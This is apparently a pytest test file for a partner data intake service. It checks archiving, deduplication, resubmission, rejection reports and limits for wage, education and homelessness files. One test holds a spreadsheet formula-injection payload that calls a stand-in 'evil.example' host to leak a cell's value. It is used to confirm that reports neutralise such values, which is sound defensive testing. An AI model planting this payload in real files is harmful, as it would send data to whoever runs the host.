"""Submissions through the service the upload page and `backbone ingest` share."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from pathlib import Path

import pytest
from django.conf import settings

from backbone.intake import services
from backbone.intake.models import ColumnMapping, Submission
from backbone.partnership.models import Partner
from tests.agreements import covering_agreement
from tests.fixtures import WAGE_HEADER, tree_checksums, write_csv

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("workspace")]

GOOD = [["123456789", "E1", 2024, 1, "5000.50"], ["987654321", "E2", 2024, 1, "300"]]


@pytest.fixture
def state_ui(db) -> Partner:
    partner = Partner.objects.create(
        slug="state-ui", name="State UI agency", partner_type="public_agency", sectors=["workforce"]
    )
    covering_agreement(partner, "ui_wages")
    return partner


def test_file_is_archived_unchanged_under_its_sha256(tmp_path, state_ui):
    path = write_csv(tmp_path / "wages.csv", WAGE_HEADER, GOOD)
    outcome = services.ingest(path, state_ui, "ui_wages", "2024-Q1")
    submission = outcome.submission
    expected = hashlib.sha256(path.read_bytes()).hexdigest()
    archived = Path(settings.WORKSPACE) / submission.archive_path
    assert (submission.sha256, submission.size) == (expected, path.stat().st_size)
    assert archived.read_bytes() == path.read_bytes() and expected in str(archived)
    assert submission.status == "loaded" and submission.rows == {"wages": 2, "identity_record": 2}


def test_same_bytes_again_is_a_no_op_that_says_so(tmp_path, state_ui):
    path = write_csv(tmp_path / "wages.csv", WAGE_HEADER, GOOD)
    first = services.ingest(path, state_ui, "ui_wages", "2024-Q1")
    again = services.ingest(path, state_ui, "ui_wages", "2024-Q1")
    assert again.duplicate and again.submission == first.submission
    assert Submission.objects.count() == 1
    assert services.warehouse().query("SELECT count(*) FROM wages") == [(2,)]


def test_resubmitting_a_period_supersedes_and_keeps_both_in_history(tmp_path, state_ui):
    first = services.ingest(
        write_csv(tmp_path / "a.csv", WAGE_HEADER, GOOD), state_ui, "ui_wages", "2024-Q1"
    )
    corrected = write_csv(tmp_path / "b.csv", WAGE_HEADER, [["123456789", "E1", 2024, 1, "5200"]])
    second = services.ingest(corrected, state_ui, "ui_wages", "2024-Q1")
    first.submission.refresh_from_db()
    assert (first.submission.status, first.submission.superseded_by) == (
        "superseded",
        second.submission,
    )
    assert services.warehouse().query("SELECT submission_id, sum(wages) FROM wages GROUP BY 1") == [
        (second.submission.pk, 5200)
    ]
    other_period = services.ingest(
        write_csv(tmp_path / "c.csv", WAGE_HEADER, GOOD), state_ui, "ui_wages", "2024-Q2"
    )
    assert other_period.submission.status == "loaded"
    second.submission.refresh_from_db()
    assert second.submission.status == "loaded"  # another period replaces nothing


def test_rejected_file_keeps_values_in_the_report_file_not_in_the_database(tmp_path, state_ui):
    bad = write_csv(tmp_path / "bad.csv", WAGE_HEADER, [*GOOD, ["123456789", "E1", 2024, 1, "1"]])
    outcome = services.ingest(bad, state_ui, "ui_wages", "2024-Q1")
    submission = outcome.submission
    assert submission.status == "rejected" and submission.error_count == 1 and submission.rows == {}
    assert "123456789" not in json.dumps(submission.problem_summary)
    [row] = services.read_report(submission)
    assert (row["file"], row["row"], row["field"], row["rule"]) == (
        "bad.csv",
        "4",
        "ssn+employer_id+year+quarter",
        "duplicate_key",
    )
    assert "123456789" in row["value"]


def test_saved_column_mapping_is_used_for_the_partners_files(tmp_path):
    cbo = Partner.objects.create(
        slug="reading-buddies",
        name="Reading Buddies",
        partner_type="community_organization",
        sectors=["education"],
    )
    covering_agreement(cbo, "program_participation")
    ColumnMapping.objects.create(
        partner=cbo, contract="program_participation",
        columns={"local_id": "Kid #", "program": "Activity", "start_date": "Began"}, date_format="%m/%d/%Y",
    )  # fmt: skip
    path = write_csv(
        tmp_path / "roster.csv", ["Kid #", "Activity", "Began"], [["7", "Book club", "09/15/2024"]]
    )
    outcome = services.ingest(path, cbo, "program_participation", "2024-25")
    assert outcome.submission.status == "loaded", outcome.result.problems
    assert services.warehouse().query(
        "SELECT program, start_date::VARCHAR FROM program_participation"
    ) == [("Book club", "2024-09-15")]


def test_unknown_contract_is_refused_naming_the_known_ones(tmp_path, state_ui):
    with pytest.raises(
        KeyError, match="no contract 'wagez'; known contracts: edfi, hmis, ui_wages"
    ):
        services.ingest(write_csv(tmp_path / "w.csv", WAGE_HEADER, GOOD), state_ui, "wagez")
    assert Submission.objects.count() == 0


def test_an_interrupted_load_is_settled_by_the_next_one(tmp_path, state_ui):
    stuck = Submission.objects.create(
        partner=state_ui, contract="ui_wages", original_name="x.csv", sha256="0" * 64, size=1,
        archive_path="archive/x.csv", processing_pid=2**22 + 12345,  # no such process
    )  # fmt: skip
    assert not _pid_exists(stuck.processing_pid)
    services.ingest(write_csv(tmp_path / "w.csv", WAGE_HEADER, GOOD), state_ui, "ui_wages")
    stuck.refresh_from_db()
    assert stuck.status == "rejected" and "interrupted" in stuck.message


def _pid_exists(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_a_folder_is_archived_as_a_reproducible_zip_and_loaded(tmp_path):
    import zipfile

    from tests.intake.hmis_files import write_hmis_export

    coalition = Partner.objects.create(
        slug="coc", name="CoC", partner_type="homeless_service_provider", sectors=["homelessness"]
    )
    covering_agreement(coalition, "hmis")
    folder = write_hmis_export(tmp_path / "export")
    outcome = services.ingest(folder, coalition, "hmis", "2026-Q3")
    submission = outcome.submission
    assert submission.status == "loaded", outcome.result.problems
    archived = Path(settings.WORKSPACE) / submission.archive_path
    with zipfile.ZipFile(archived) as zipped:
        assert sorted(zipped.namelist()) == sorted(p.name for p in folder.iterdir())
        assert zipped.read("Client.csv") == (folder / "Client.csv").read_bytes()
    assert services.ingest(folder, coalition, "hmis", "2026-Q3").duplicate


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


def test_a_formula_in_the_file_reaches_the_report_csv_as_text(tmp_path, state_ui):
    """A partner's cell that a spreadsheet would run is quoted in the downloadable report, and
    the page and API (which read the report back) still show it as sent."""
    bad = write_csv(tmp_path / "bad.csv", WAGE_HEADER, [["123456789", "E1", 2024, 1, FORMULA]])
    submission = services.ingest(bad, state_ui, "ui_wages", "2024-Q1").submission
    assert submission.status == "rejected"
    text = services.report_file(submission).read_text(encoding="utf-8")
    [header, row] = list(csv.reader(io.StringIO(text)))
    assert row[header.index("value")] == "'" + FORMULA
    assert row[header.index("row")] == "2"
    assert services.read_report(submission)[0]["value"] == FORMULA


def test_limits_come_from_the_settings_per_contract(settings):
    settings.BACKBONE_INTAKE_MAX_FIELD_CHARS = {"default": 500, "edfi": 90}
    settings.BACKBONE_INTAKE_MAX_FILE_MB = 3
    settings.BACKBONE_INTAKE_MAX_ZIP_RATIO = 40
    edfi, wages = services.intake_limits("edfi"), services.intake_limits("ui_wages")
    assert (edfi.max_field_chars, wages.max_field_chars) == (90, 500)
    assert (wages.max_file_bytes, wages.max_zip_ratio) == (3 * 1024 * 1024, 40)


def test_documented_default_limits(settings):
    # docs/intake.md#limits: 4,096 characters for Ed-Fi, 1,024 for wage records, 32,767 else.
    assert [services.intake_limits(c).max_field_chars for c in ("edfi", "ui_wages", "hmis")] == [
        4096,
        1024,
        32767,
    ]
    assert services.intake_limits("training").max_file_bytes == 4 * 1024**3


def test_a_wage_field_over_its_contract_limit_rejects_the_submission(tmp_path, state_ui):
    path = tmp_path / "wages.csv"
    path.write_bytes(
        b"ssn,employer_id,year,quarter,wages\n123456789," + b"E" * 1025 + b",2024,1,9\n"
    )
    outcome = services.ingest(path, state_ui, "ui_wages", "2024-Q1")
    assert (outcome.submission.status, outcome.submission.error_count) == ("rejected", 1)
    [row] = services.read_report(outcome.submission)
    assert (row["row"], row["field"], row["rule"]) == ("2", "employer_id", "too_long")


def failing_importer(source, options):
    """An importer that breaks half-way, as a bug in a new format's reader would."""
    yield from ()
    raise RuntimeError(f"the reader lost its place in {source.name}")


def test_an_importer_that_raises_leaves_a_rejected_submission_not_a_stuck_one(
    tmp_path, state_ui, monkeypatch, settings
):
    from backbone.warehouse import contracts

    broken = contracts.Contract(
        "broken", "A format whose reader fails", ("wages",), "CSV",
        reader="tests.intake.test_services:failing_importer",
    )  # fmt: skip
    monkeypatch.setitem(contracts.CONTRACTS, "broken", broken)
    settings.BACKBONE_REQUIRE_AGREEMENTS = False  # no agreement names this test-only contract
    services.ingest(write_csv(tmp_path / "a.csv", WAGE_HEADER, GOOD), state_ui, "ui_wages")
    before = tree_checksums(services.warehouse().directory)
    outcome = services.ingest(write_csv(tmp_path / "w.csv", WAGE_HEADER, GOOD), state_ui, "broken")
    submission = Submission.objects.get(pk=outcome.submission.pk)
    assert submission.status == "rejected" and submission.processing_pid is None
    assert "could not be read (RuntimeError)" in submission.problem_summary[0]["message"]
    assert "lost its place" not in json.dumps(submission.problem_summary)  # may quote the file
    [row] = services.read_report(submission)
    assert row["value"] == "the reader lost its place in w.csv"
    assert tree_checksums(services.warehouse().directory) == before
